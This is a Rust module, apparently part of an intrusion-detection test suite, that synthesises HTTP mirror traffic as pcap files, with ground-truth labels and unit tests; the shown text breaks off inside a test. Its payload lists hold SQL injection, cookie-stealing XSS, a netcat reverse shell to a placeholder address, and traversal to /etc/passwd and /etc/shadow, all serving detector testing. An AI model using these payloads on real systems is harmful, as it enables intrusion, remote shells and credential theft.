//! Realistic HTTP/1.1 mirror traffic with ground truth, streamed.
//!
//! Connections from a few proxy addresses (as an nginx `mirror` target sees
//! them) to one server port, keep-alive with several requests each, packets
//! of `concurrent_flows` connections interleaved in time. Memory is bounded
//! by `concurrent_flows` × one request/response exchange: frames are written
//! as flows progress.

use std::collections::VecDeque;
use std::io::Write;
use std::net::{IpAddr, Ipv4Addr, SocketAddr};

use serde::{Deserialize, Serialize};

use super::conversation::{
    impair, number_client_data, Direction, Impairment, LinkSpec, Segment, SeqState, Teardown,
    DEFAULT_START,
};
use super::writer::{pcap_writer, write_frame};
use super::{Rng, SynthError};
use crate::capture::{LinkType, Timestamp};

/// What to generate. All randomness derives from `seed`.
#[derive(Debug, Clone)]
pub struct MixConfig {
    pub seed: u64,
    /// Stop opening connections and sending requests once this many bytes
    /// (pcap file bytes) are written; open connections are then closed, so
    /// the file ends a little above the target (at most a few packets per
    /// open flow). Default 10 MiB.
    pub target_bytes: u64,
    /// Also stop after this many requests (for small fixtures). Default none.
    pub max_requests: Option<u64>,
    /// Connections open at once, their packets interleaved (0 counts as 1).
    /// Memory is about this many × one request/response exchange (a few
    /// KiB each). Default 64.
    pub concurrent_flows: usize,
    /// Fraction of requests carrying an attack, within 0.0..=1.0 (else an
    /// error); classes are drawn uniformly. Default 0.03.
    pub attack_ratio: f64,
    /// 802.1Q tag on every frame (VLAN 100..=103 by proxy). Default off.
    pub vlan: bool,
    /// Per client data segment: probability of swapping it with the next.
    /// Default 0.
    pub reorder_prob: f64,
    /// Per client data segment: probability of an exact retransmission
    /// (sent again after the next segment). Default 0.
    pub retrans_prob: f64,
    /// Add `X-Real-IP` / `X-Forwarded-For` / `X-Forwarded-Proto` as a
    /// reverse proxy would (`X-Request-ID` is always sent). Default on.
    pub mirror_headers: bool,
    /// Server (mirror target) port. Default 8445.
    pub server_port: u16,
    /// Requests per keep-alive connection, inclusive range (a low bound of
    /// 0 counts as 1, an inverted range as its low bound). Default 1..=8.
    pub requests_per_connection: (usize, usize),
    /// Client payload bytes per segment (clamped to 1..=65000). Default 1448.
    pub mss: usize,
}

impl Default for MixConfig {
    fn default() -> Self {
        MixConfig {
            seed: 1,
            target_bytes: 10 * 1024 * 1024,
            max_requests: None,
            concurrent_flows: 64,
            attack_ratio: 0.03,
            vlan: false,
            reorder_prob: 0.0,
            retrans_prob: 0.0,
            mirror_headers: true,
            server_port: 8445,
            requests_per_connection: (1, 8),
            mss: 1448,
        }
    }
}

/// Attack classes the generator injects (names as in the JSON contract).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AttackClassTruth {
    Sqli,
    Xss,
    Rce,
    Ptrav,
    Scanner,
}

impl AttackClassTruth {
    pub const ALL: [AttackClassTruth; 5] = [
        AttackClassTruth::Sqli,
        AttackClassTruth::Xss,
        AttackClassTruth::Rce,
        AttackClassTruth::Ptrav,
        AttackClassTruth::Scanner,
    ];
    pub fn as_str(self) -> &'static str {
        match self {
            AttackClassTruth::Sqli => "sqli",
            AttackClassTruth::Xss => "xss",
            AttackClassTruth::Rce => "rce",
            AttackClassTruth::Ptrav => "ptrav",
            AttackClassTruth::Scanner => "scanner",
        }
    }
}

/// Ground truth for one request, one JSON line in `*.truth.jsonl`.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct TruthRequest {
    /// Value of the `X-Request-ID` header (unique per file).
    pub request_id: String,
    pub method: String,
    /// Request-target exactly as sent.
    pub uri: String,
    pub host: String,
    /// Contract attack class when the request is an attack.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub attack_class: Option<String>,
    /// Where the attack is: `path`, `query`, `header`, `cookie`, `body`
    /// (form), `body:json`.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub location_kind: Option<String>,
    /// Contract location, e.g. `query:q`, `header:user-agent`, `body:json:search.q`.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub location: Option<String>,
    /// Encoding of the payload on the wire: `none`, `percent`, `double_percent`, `plus`.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub encoding: Option<String>,
    /// True when the request is not fully in the capture (gap, cut).
    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
    pub partial: bool,
    /// Free text for edge cases (what a first-wins reassembler sees, ...).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub note: Option<String>,
    /// Two-sided captures: the record's `response_status` (0: none seen).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub response_status: Option<u16>,
    /// Two-sided captures: the record's `response_bytes`.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub response_bytes: Option<u64>,
    /// Two-sided captures: the record's `response_time_ms`.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub response_time_ms: Option<u32>,
    /// Two-sided captures: the record's `blocked`.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub blocked: Option<bool>,
}

impl TruthRequest {
    pub fn benign(request_id: &str, method: &str, uri: &str, host: &str) -> TruthRequest {
        TruthRequest {
            request_id: request_id.into(),
            method: method.into(),
            uri: uri.into(),
            host: host.into(),
            attack_class: None,
            location_kind: None,
            location: None,
            encoding: None,
            partial: false,
            note: None,
            response_status: None,
            response_bytes: None,
            response_time_ms: None,
            blocked: None,
        }
    }
}

/// Everything a test needs to check a sensor against a mix.
#[derive(Debug, Clone, Default)]
pub struct MixTruth {
    pub requests: Vec<TruthRequest>,
    pub packets: u64,
    pub bytes: u64,
}

/// Counters of a streamed mix.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct MixSummary {
    pub packets: u64,
    pub bytes: u64,
    pub requests: u64,
    pub attacks: u64,
}

/// Generate a mix into memory-friendly `out` (Ethernet pcap, µs, little
/// endian) and collect the truth. For huge outputs use
/// [`generate_mix_streaming`], which does not keep the truth.
pub fn generate_mix<W: Write>(cfg: &MixConfig, out: W) -> Result<MixTruth, SynthError> {
    let mut requests = Vec::new();
    let s = generate_mix_streaming(cfg, out, &mut |t| {
        requests.push(t.clone());
        Ok(())
    })?;
    Ok(MixTruth {
        requests,
        packets: s.packets,
        bytes: s.bytes,
    })
}

struct Slot {
    spec: LinkSpec,
    st: SeqState,
    queue: VecDeque<Segment>,
    remaining: usize,
    response: ResponseMode,
    closing: bool,
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum ResponseMode {
    AckOnly,
    NoContent,
    Ok,
}

/// Generate a mix, calling `on_request` for each request's truth as it is
/// generated (before its packets are written).
pub fn generate_mix_streaming<W: Write>(
    cfg: &MixConfig,
    out: W,
    on_request: &mut dyn FnMut(&TruthRequest) -> Result<(), SynthError>,
) -> Result<MixSummary, SynthError> {
    if !(0.0..=1.0).contains(&cfg.attack_ratio) {
        return Err(SynthError::Invalid(
            "attack_ratio must be within 0..=1".into(),
        ));
    }
    let mut w = pcap_writer(
        std::io::BufWriter::with_capacity(1 << 20, out),
        LinkType::ETHERNET,
        false,
        false,
    )?;
    let mut rng = Rng::new(cfg.seed);
    let mut sum = MixSummary {
        bytes: 24,
        ..MixSummary::default()
    };
    let mut ts = DEFAULT_START.0;
    let mut active: Vec<Slot> = Vec::new();
    let mut conn_no: u64 = 0;
    let flows = cfg.concurrent_flows.max(1);
    let mut gen = RequestGen {
        next_id: 0,
        seed: cfg.seed,
    };
    loop {
        let stop =
            sum.bytes >= cfg.target_bytes || cfg.max_requests.is_some_and(|m| sum.requests >= m);
        while !stop && active.len() < flows {
            active.push(open(cfg, &mut rng, conn_no));
            conn_no += 1;
        }
        if active.is_empty() {
            break;
        }
        let i = rng.below(active.len());
        let Some(slot) = active.get_mut(i) else { break };
        if slot.queue.is_empty() {
            if slot.closing {
                active.swap_remove(i);
                continue;
            }
            if slot.remaining > 0 && !stop {
                slot.remaining -= 1;
                let last = slot.remaining == 0;
                let (bytes, truth) = gen.request(&mut rng, cfg, last);
                if truth.attack_class.is_some() {
                    sum.attacks += 1;
                }
                sum.requests += 1;
                on_request(&truth)?;
                exchange(slot, &bytes, cfg, &mut rng);
            } else {
                let how = if rng.chance(0.05) {
                    Teardown::Rst
                } else {
                    Teardown::Fin
                };
                let mut segs = Vec::new();
                slot.st.teardown(how, true, &mut segs);
                slot.queue.extend(segs);
                slot.closing = true;
            }
        }
        if let Some(seg) = slot.queue.pop_front() {
            let frame = slot.spec.render(&seg)?;
            sum.bytes += write_frame(&mut w, Timestamp(ts), &frame)? as u64;
            sum.packets += 1;
            // 1..=250 µs between packets on the port, whole microseconds so
            // a µs pcap keeps them exactly.
            ts += rng.range(1, 250) as u64 * 1000;
        }
    }
    let mut inner = w.into_writer();
    inner.flush()?;
    Ok(sum)
}

fn open(cfg: &MixConfig, rng: &mut Rng, conn_no: u64) -> Slot {
    let proxy = (conn_no % 16) as u8;
    let client = SocketAddr::new(
        IpAddr::V4(Ipv4Addr::new(10, 10, 0, 10 + proxy)),
        32768 + ((conn_no / 16) % 28000) as u16,
    );
    let server = SocketAddr::new(IpAddr::V4(Ipv4Addr::new(10, 20, 0, 5)), cfg.server_port);
    let vlans = if cfg.vlan {
        vec![100 + u16::from(proxy % 4)]
    } else {
        Vec::new()
    };
    let mut st = SeqState::new(rng.u64() as u32, rng.u64() as u32);
    let mut segs = Vec::new();
    st.handshake(&mut segs);
    let response = match rng.below(10) {
        0..=2 => ResponseMode::AckOnly,
        3..=6 => ResponseMode::NoContent,
        _ => ResponseMode::Ok,
    };
    let (lo, hi) = cfg.requests_per_connection;
    Slot {
        spec: LinkSpec {
            linktype: LinkType::ETHERNET,
            client,
            server,
            vlans,
            null_big_endian: false,
        },
        st,
        queue: segs.into(),
        remaining: rng.range(lo.max(1), hi.max(lo.max(1))),
        response,
        closing: false,
    }
}

/// Queue one request (impaired as configured) and the server's answer.
fn exchange(slot: &mut Slot, request: &[u8], cfg: &MixConfig, rng: &mut Rng) {
    let mut segs: Vec<Segment> = Vec::new();
    slot.st
        .send(Direction::ClientToServer, request, cfg.mss, &mut segs);
    number_client_data(&mut segs);
    let n = segs.len();
    let mut imps = Vec::new();
    for k in 0..n {
        if cfg.retrans_prob > 0.0 && rng.chance(cfg.retrans_prob) {
            imps.push(Impairment::Retransmit { index: k });
        }
    }
    for imp in &imps {
        impair(&mut segs, imp, rng);
    }
    if cfg.reorder_prob > 0.0 {
        for k in 0..segs.len().saturating_sub(1) {
            if rng.chance(cfg.reorder_prob) {
                segs.swap(k, k + 1);
            }
        }
    }
    match slot.response {
        ResponseMode::AckOnly => slot.st.ack(Direction::ServerToClient, &mut segs),
        ResponseMode::NoContent => {
            let r =
                b"HTTP/1.1 204 No Content\r\nServer: mirror-sink\r\nConnection: keep-alive\r\n\r\n";
            slot.st.send(Direction::ServerToClient, r, 1448, &mut segs);
            slot.st.ack(Direction::ClientToServer, &mut segs);
        }
        ResponseMode::Ok => {
            let len = rng.range(40, 3000);
            let body: Vec<u8> = b"{\"ok\":true,\"items\":[1,2,3]} "
                .iter()
                .copied()
                .cycle()
                .take(len)
                .collect();
            let mut r = format!(
                "HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: application/json\r\nContent-Length: {len}\r\nConnection: keep-alive\r\n\r\n"
            )
            .into_bytes();
            r.extend_from_slice(&body);
            slot.st.send(Direction::ServerToClient, &r, 1448, &mut segs);
            slot.st.ack(Direction::ClientToServer, &mut segs);
        }
    }
    slot.queue.extend(segs);
}

const HOSTS: [&str; 4] = [
    "shop.example.com",
    "api.example.com",
    "www.example.org",
    "portal.example.net",
];

const BROWSER_UAS: [&str; 4] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
];
const API_UAS: [&str; 3] = [
    "okhttp/4.12.0",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
];

/// Benign text that contains attack words, to expose false positives.
const PROSE: [&str; 10] = [
    "select a plan",
    "O'Brien",
    "drop shipping",
    "union station parking",
    "script writing tips",
    "cat food and dog food",
    "rock & roll",
    "where 1 = 1 in logic",
    "alert the admin when done",
    "running shoes",
];

const SQLI: [&str; 5] = [
    "' OR '1'='1",
    "1 UNION SELECT username,password FROM users--",
    "1; DROP TABLE users--",
    "admin'--",
    "1 AND SLEEP(5)",
];
const XSS: [&str; 4] = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(document.cookie)>",
    "<svg/onload=alert(1)>",
    "javascript:alert(document.domain)",
];
const RCE: [&str; 4] = [
    ";cat /etc/passwd",
    "$(id)",
    "| nc -e /bin/sh 198.51.100.7 4444",
    "`uname -a`",
];
const PTRAV: [&str; 4] = [
    "../../../../etc/passwd",
    "....//....//....//etc/shadow",
    "..\\..\\..\\windows\\win.ini",
    "/../../../proc/self/environ",
];
const SCANNERS: [&str; 5] = [
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "gobuster/3.6",
];

/// Percent-encode all but RFC 3986 unreserved characters; `plus` turns
/// spaces into `+` (form encoding).
pub(crate) fn percent(s: &str, plus: bool) -> String {
    let mut o = String::with_capacity(s.len() * 3);
    for b in s.bytes() {
        match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'.' | b'_' | b'~' => {
                o.push(b as char)
            }
            b' ' if plus => o.push('+'),
            _ => o.push_str(&format!("%{b:02X}")),
        }
    }
    o
}

fn encode(s: &str, enc: &str) -> String {
    match enc {
        "percent" => percent(s, false),
        "double_percent" => percent(s, false).replace('%', "%25"),
        "plus" => percent(s, true),
        _ => s.to_string(),
    }
}

struct RequestGen {
    next_id: u64,
    seed: u64,
}

struct Attack {
    class: AttackClassTruth,
    kind: &'static str,
    payload: String,
    encoding: &'static str,
}

impl RequestGen {
    fn id(&mut self, rng: &mut Rng) -> String {
        self.next_id += 1;
        // Unique by the counter, random-looking by the rest.
        format!(
            "{:08x}{:08x}{:016x}",
            self.seed as u32,
            self.next_id as u32,
            rng.u64()
        )
    }

    fn attack(&self, rng: &mut Rng) -> Attack {
        let class = *rng
            .pick(&AttackClassTruth::ALL)
            .unwrap_or(&AttackClassTruth::Sqli);
        let list: &[&str] = match class {
            AttackClassTruth::Sqli => &SQLI,
            AttackClassTruth::Xss => &XSS,
            AttackClassTruth::Rce => &RCE,
            AttackClassTruth::Ptrav => &PTRAV,
            AttackClassTruth::Scanner => &SCANNERS,
        };
        let payload = rng.pick(list).copied().unwrap_or("").to_string();
        if class == AttackClassTruth::Scanner {
            return Attack {
                class,
                kind: "header",
                payload,
                encoding: "none",
            };
        }
        let kind = *rng
            .pick(&[
                "query",
                "query",
                "body",
                "body:json",
                "cookie",
                "header",
                "path",
            ])
            .unwrap_or(&"query");
        let encoding = match kind {
            "query" | "body" => *rng
                .pick(&["percent", "double_percent", "plus"])
                .unwrap_or(&"percent"),
            "path" | "cookie" => *rng
                .pick(&["percent", "double_percent"])
                .unwrap_or(&"percent"),
            _ => "none",
        };
        Attack {
            class,
            kind,
            payload,
            encoding,
        }
    }

    /// One request's bytes and truth.
    fn request(&mut self, rng: &mut Rng, cfg: &MixConfig, last: bool) -> (Vec<u8>, TruthRequest) {
        let id = self.id(rng);
        let host = rng.pick(&HOSTS).copied().unwrap_or("example.com");
        let attack = if rng.chance(cfg.attack_ratio) {
            Some(self.attack(rng))
        } else {
            None
        };
        let browser = rng.chance(0.6);
        let prose = rng.pick(&PROSE).copied().unwrap_or("x");
        let n = rng.range(1, 9999);

        // Method and body shape; form/JSON for body attacks.
        let shape = match attack.as_ref().map(|a| a.kind) {
            Some("body") => 1,
            Some("body:json") => 2,
            _ => rng.below(10),
        };
        let (method, body_kind) = match shape {
            1 => ("POST", "form"),
            2 => ("POST", "json"),
            3 => ("POST", "multipart"),
            4 if rng.chance(0.3) => ("PUT", "json"),
            5 if rng.chance(0.2) => ("DELETE", ""),
            _ => ("GET", ""),
        };
        let mut location = None;
        let enc_payload = attack.as_ref().map(|a| encode(&a.payload, a.encoding));

        // Request-target.
        let uri = match (&attack, &enc_payload) {
            (Some(a), Some(p)) if a.kind == "path" => {
                location = Some("path".to_string());
                format!("/static/{p}")
            }
            (Some(a), Some(p)) if a.kind == "query" => {
                location = Some("query:q".to_string());
                format!("/search?q={p}&page={}", n % 20)
            }
            (Some(a), _) if a.class == AttackClassTruth::Scanner => rng
                .pick(&[
                    "/.env",
                    "/wp-login.php",
                    "/admin/config.php",
                    "/.git/HEAD",
                    "/phpmyadmin/",
                ])
                .copied()
                .unwrap_or("/")
                .to_string(),
            _ => match rng.below(7) {
                0 => "/".to_string(),
                1 => format!("/products/{n}"),
                2 => format!("/search?q={}&page={}", percent(prose, true), n % 20),
                3 => format!("/api/v1/users/{n}/orders?status=open&sort=desc"),
                4 => format!("/static/js/app.{:08x}.js", rng.u64() as u32),
                5 => format!(
                    "/blog/{}",
                    prose.replace(|c: char| !c.is_ascii_alphanumeric(), "-")
                ),
                _ => format!("/account?tab=orders&ref={}", percent(prose, false)),
            },
        };
        let uri = if method != "GET" && method != "DELETE" && location.is_none() {
            match body_kind {
                "form" => "/account/comment".to_string(),
                "multipart" => "/upload".to_string(),
                _ => format!("/api/v1/items/{n}"),
            }
        } else {
            uri
        };

        let mut h: Vec<(String, String)> = vec![("Host".into(), host.into())];
        let ua = match &attack {
            Some(a) if a.class == AttackClassTruth::Scanner => {
                location = Some("header:user-agent".into());
                a.payload.clone()
            }
            _ if browser => rng.pick(&BROWSER_UAS).copied().unwrap_or("").to_string(),
            _ => rng.pick(&API_UAS).copied().unwrap_or("").to_string(),
        };
        h.push(("User-Agent".into(), ua));
        if browser {
            h.push((
                "Accept".into(),
                "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8".into(),
            ));
            h.push(("Accept-Language".into(), "en-US,en;q=0.9".into()));
            h.push(("Accept-Encoding".into(), "gzip, deflate, br".into()));
            h.push(("Referer".into(), format!("https://{host}/")));
        } else {
            h.push(("Accept".into(), "application/json".into()));
            h.push((
                "Authorization".into(),
                format!("Bearer {:016x}{:016x}", rng.u64(), rng.u64()),
            ));
        }
        let cookie_extra = match (&attack, &enc_payload) {
            (Some(a), Some(p)) if a.kind == "cookie" => {
                location = Some("cookie:pref".into());
                format!("; pref={p}")
            }
            _ => String::new(),
        };
        if browser || !cookie_extra.is_empty() {
            h.push((
                "Cookie".into(),
                format!("session={:016x}; theme=dark{cookie_extra}", rng.u64()),
            ));
        }
        if let (Some(a), Some(p)) = (&attack, &enc_payload) {
            if a.kind == "header" && a.class != AttackClassTruth::Scanner {
                location = Some("header:x-search-filter".into());
                h.push(("X-Search-Filter".into(), p.clone()));
            }
        }
        if cfg.mirror_headers {
            let real = format!(
                "{}.{}.{}.{}",
                rng.range(1, 223),
                rng.below(256),
                rng.below(256),
                rng.range(1, 254)
            );
            h.push(("X-Real-IP".into(), real.clone()));
            if rng.chance(0.5) {
                h.push(("X-Forwarded-For".into(), real));
            } else {
                h.push((
                    "X-Forwarded-For".into(),
                    format!("{real}, 10.0.{}.{}", rng.below(256), rng.range(1, 254)),
                ));
            }
            h.push(("X-Forwarded-Proto".into(), "https".into()));
        }
        h.push(("X-Request-ID".into(), id.clone()));

        // Body.
        let body: Vec<u8> = match body_kind {
            "form" => {
                let comment = match (&attack, &enc_payload) {
                    (Some(a), Some(p)) if a.kind == "body" => {
                        location = Some("body:comment".into());
                        p.clone()
                    }
                    _ => percent(prose, true),
                };
                format!("username=alice{n}&comment={comment}&submit=Send").into_bytes()
            }
            "json" => {
                let q = match &attack {
                    Some(a) if a.kind == "body:json" => {
                        location = Some("body:json:search.q".into());
                        a.payload.clone()
                    }
                    _ => prose.to_string(),
                };
                let q = serde_json::Value::String(q).to_string();
                format!("{{\"search\":{{\"q\":{q},\"page\":{}}},\"tags\":[\"new\",\"sale\"],\"id\":{n}}}", n % 20).into_bytes()
            }
            "multipart" => {
                let b = format!("----WebKitFormBoundary{:016x}", rng.u64());
                let size = rng.range(20, 1500);
                let file: String = (0..size).map(|i| (b'a' + (i % 26) as u8) as char).collect();
                h.push((
                    "Content-Type".into(),
                    format!("multipart/form-data; boundary={b}"),
                ));
                format!(
                    "--{b}\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\n{prose}\r\n--{b}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"notes.txt\"\r\nContent-Type: text/plain\r\n\r\n{file}\r\n--{b}--\r\n"
                )
                .into_bytes()
            }
            _ => Vec::new(),
        };
        match body_kind {
            "form" => h.push((
                "Content-Type".into(),
                "application/x-www-form-urlencoded".into(),
            )),
            "json" => h.push(("Content-Type".into(), "application/json".into())),
            _ => {}
        }
        if last {
            h.push(("Connection".into(), "close".into()));
        }
        let chunked = !body.is_empty() && rng.chance(0.2);
        let mut out = format!("{method} {uri} HTTP/1.1\r\n").into_bytes();
        if chunked {
            h.push(("Transfer-Encoding".into(), "chunked".into()));
        } else if !body.is_empty() || method == "POST" || method == "PUT" {
            h.push(("Content-Length".into(), body.len().to_string()));
        }
        for (k, v) in &h {
            out.extend_from_slice(k.as_bytes());
            out.extend_from_slice(b": ");
            out.extend_from_slice(v.as_bytes());
            out.extend_from_slice(b"\r\n");
        }
        out.extend_from_slice(b"\r\n");
        if chunked {
            let mut rest = body.as_slice();
            while !rest.is_empty() {
                let k = rng.range(5, 64).min(rest.len());
                let (c, r) = rest.split_at(k);
                out.extend_from_slice(format!("{k:x}\r\n").as_bytes());
                out.extend_from_slice(c);
                out.extend_from_slice(b"\r\n");
                rest = r;
            }
            out.extend_from_slice(b"0\r\n\r\n");
        } else {
            out.extend_from_slice(&body);
        }
        let mut t = TruthRequest::benign(&id, method, &uri, host);
        if let Some(a) = attack {
            t.attack_class = Some(a.class.as_str().into());
            t.location_kind = Some(a.kind.into());
            t.location = location;
            t.encoding = Some(a.encoding.into());
        }
        (out, t)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use pcap_file::pcap::PcapReader;

    type Segs = Vec<(u32, Vec<u8>)>;

    fn small(seed: u64) -> MixConfig {
        MixConfig {
            seed,
            target_bytes: u64::MAX,
            max_requests: Some(300),
            concurrent_flows: 8,
            attack_ratio: 0.5,
            ..MixConfig::default()
        }
    }

    #[test]
    fn deterministic_bytes() {
        let mut a = Vec::new();
        let mut b = Vec::new();
        let ta = generate_mix(&small(3), &mut a).unwrap();
        let tb = generate_mix(&small(3), &mut b).unwrap();
        assert_eq!(a, b);
        assert_eq!(ta.requests, tb.requests);
        let mut c = Vec::new();
        generate_mix(&small(4), &mut c).unwrap();
        assert_ne!(a, c);
        assert_eq!(ta.bytes, a.len() as u64);
    }

    /// Re-join every client stream by flow and sequence number and check that
    /// each truth request appears in it, whole, exactly as described.
    #[test]
    fn truth_matches_wire() {
        let cfg = MixConfig {
            vlan: true,
            reorder_prob: 0.05,
            retrans_prob: 0.05,
            ..small(11)
        };
        let mut buf = Vec::new();
        let truth = generate_mix(&cfg, &mut buf).unwrap();
        assert_eq!(truth.requests.len(), 300);
        let ids: std::collections::HashSet<_> = truth
            .requests
            .iter()
            .map(|r| r.request_id.clone())
            .collect();
        assert_eq!(ids.len(), 300, "request ids unique");
        let mut r = PcapReader::new(&buf[..]).unwrap();
        let mut flows: std::collections::HashMap<(u32, u16), Segs> = Default::default();
        let mut packets = 0;
        while let Some(p) = r.next_packet() {
            let p = p.unwrap();
            packets += 1;
            let s = etherparse::SlicedPacket::from_ethernet(&p.data).unwrap();
            assert!(s.vlan().is_some());
            let Some(etherparse::TransportSlice::Tcp(t)) = s.transport else {
                panic!()
            };
            let Some(etherparse::NetSlice::Ipv4(ip)) = s.net else {
                panic!()
            };
            if t.destination_port() == 8445 && !t.payload().is_empty() {
                let key = (u32::from(ip.header().source_addr()), t.source_port());
                flows
                    .entry(key)
                    .or_default()
                    .push((t.sequence_number(), t.payload().to_vec()));
            }
        }
        assert_eq!(packets, truth.packets);
        let mut streams = Vec::new();
        for (_, mut segs) in flows {
            // Sort by offset from the first byte (ISNs are random, may wrap).
            let base = segs.iter().map(|s| s.0).fold(segs[0].0, |m, s| {
                if s.wrapping_sub(m) > u32::MAX / 2 {
                    s
                } else {
                    m
                }
            });
            segs.sort_by_key(|s| s.0.wrapping_sub(base));
            let mut out = Vec::new();
            for (seq, d) in segs {
                let off = seq.wrapping_sub(base) as usize;
                if off + d.len() > out.len() {
                    out.extend_from_slice(&d[out.len() - off..]);
                }
            }
            streams.push(String::from_utf8(out).unwrap());
        }
        let all = streams.join("\n");
        let mut classes = std::collections::HashMap::new();
        for t in &truth.requests {
            let line = format!("{} {} HTTP/1.1\r\n", t.method, t.uri);
            let at = all
                .find(&format!("X-Request-ID: {}\r\n", t.request_id))
                .unwrap();
            let start = all[..at].rfind(&line).unwrap();
            assert!(all[start..at].contains(&format!("Host: {}\r\n", t.host)));
            if let Some(c) = &t.attack_class {
                *classes.entry(c.clone()).or_insert(0) += 1;
            }
        }
        assert_eq!(classes.len(), 5, "{classes:?}");
        let attacks: usize = classes.values().sum();
        assert!((100..200).contains(&attacks), "{attacks}");
    }

    #[test]
    fn target_bytes_bounds_output() {
        let cfg = MixConfig {
            target_bytes: 200_000,
            concurrent_flows: 4,
            ..MixConfig::default()
        };
        let mut buf = Vec::new();
        let t = generate_mix(&cfg, &mut buf).unwrap();
        assert!(buf.len() >= 200_000 && buf.len() < 260_000, "{}", buf.len());
        assert!(t.requests.len() > 50);
    }

    #[test]
    fn bad_config_and_degenerate_values() {
        let bad = MixConfig {
            attack_ratio: 1.5,
            ..MixConfig::default()
        };
        assert!(generate_mix(&bad, Vec::new()).is_err());
        // zero flows, inverted request range, zero mss: still a valid capture
        let odd = MixConfig {
            concurrent_flows: 0,
            requests_per_connection: (5, 2),
            mss: 0,
            max_requests: Some(3),
            target_bytes: u64::MAX,
            ..MixConfig::default()
        };
        let mut buf = Vec::new();
        let t = generate_mix(&odd, &mut buf).unwrap();
        assert_eq!(t.requests.len(), 3);
        let mut r = PcapReader::new(&buf[..]).unwrap();
        let mut last = std::time::Duration::ZERO;
        while let Some(p) = r.next_packet() {
            let p = p.unwrap();
            assert!(p.timestamp > last, "strictly increasing time");
            last = p.timestamp;
        }
        let empty = MixConfig {
            target_bytes: 0,
            ..MixConfig::default()
        };
        let mut buf = Vec::new();
        let t = generate_mix(&empty, &mut buf).unwrap();
        assert_eq!((t.requests.len(), t.packets, buf.len()), (0, 0, 24));
    }

    #[test]
    fn encodings() {
        assert_eq!(percent("a b/'", false), "a%20b%2F%27");
        assert_eq!(percent("a b", true), "a+b");
        assert_eq!(encode("'", "double_percent"), "%2527");
        assert_eq!(encode("' x", "none"), "' x");
    }

    #[test]
    fn truth_json_shape() {
        let mut t = TruthRequest::benign("id1", "GET", "/", "h");
        assert_eq!(
            serde_json::to_string(&t).unwrap(),
            r#"{"request_id":"id1","method":"GET","uri":"/","host":"h"}"#
        );
        t.partial = true;
        t.attack_class = Some("sqli".into());
        let s = serde_json::to_string(&t).unwrap();
        assert!(s.contains(r#""attack_class":"sqli""#) && s.contains(r#""partial":true"#));
        assert_eq!(serde_json::from_str::<TruthRequest>(&s).unwrap(), t);
    }

    /// Parse with httparse and de-chunk: returns (headers, body, consumed).
    fn parse_one(buf: &[u8]) -> (Vec<(String, String)>, Vec<u8>, usize) {
        let mut hs = [httparse::EMPTY_HEADER; 64];
        let mut req = httparse::Request::new(&mut hs);
        let httparse::Status::Complete(n) = req.parse(buf).unwrap() else {
            panic!("partial")
        };
        let headers: Vec<(String, String)> = req
            .headers
            .iter()
            .map(|h| {
                (
                    h.name.to_ascii_lowercase(),
                    String::from_utf8(h.value.to_vec()).unwrap(),
                )
            })
            .collect();
        let get = |k: &str| headers.iter().find(|h| h.0 == k).map(|h| h.1.clone());
        let mut at = n;
        let mut body = Vec::new();
        if get("transfer-encoding").as_deref() == Some("chunked") {
            assert!(get("content-length").is_none());
            loop {
                let line_end = at + buf[at..].windows(2).position(|w| w == b"\r\n").unwrap();
                let size =
                    usize::from_str_radix(std::str::from_utf8(&buf[at..line_end]).unwrap(), 16)
                        .unwrap();
                at = line_end + 2;
                if size == 0 {
                    assert_eq!(&buf[at..at + 2], b"\r\n");
                    at += 2;
                    break;
                }
                body.extend_from_slice(&buf[at..at + size]);
                assert_eq!(&buf[at + size..at + size + 2], b"\r\n");
                at += size + 2;
            }
        } else if let Some(cl) = get("content-length") {
            let cl: usize = cl.parse().unwrap();
            body.extend_from_slice(&buf[at..at + cl]);
            at += cl;
        }
        (headers, body, at)
    }

    /// Every generated request is valid HTTP/1.1 with exact body framing,
    /// carries its truth, and bodies are what their Content-Type says.
    #[test]
    fn generated_requests_are_well_formed() {
        let cfg = MixConfig {
            attack_ratio: 0.4,
            ..MixConfig::default()
        };
        let mut rng = Rng::new(5);
        let mut gen = RequestGen {
            next_id: 0,
            seed: 5,
        };
        let (mut chunked, mut json, mut multipart) = (0, 0, 0);
        for i in 0..2000 {
            let (bytes, t) = gen.request(&mut rng, &cfg, i % 7 == 0);
            let (headers, body, used) = parse_one(&bytes);
            assert_eq!(
                used,
                bytes.len(),
                "framing of {}",
                String::from_utf8_lossy(&bytes)
            );
            let get = |k: &str| headers.iter().find(|h| h.0 == k).map(|h| h.1.clone());
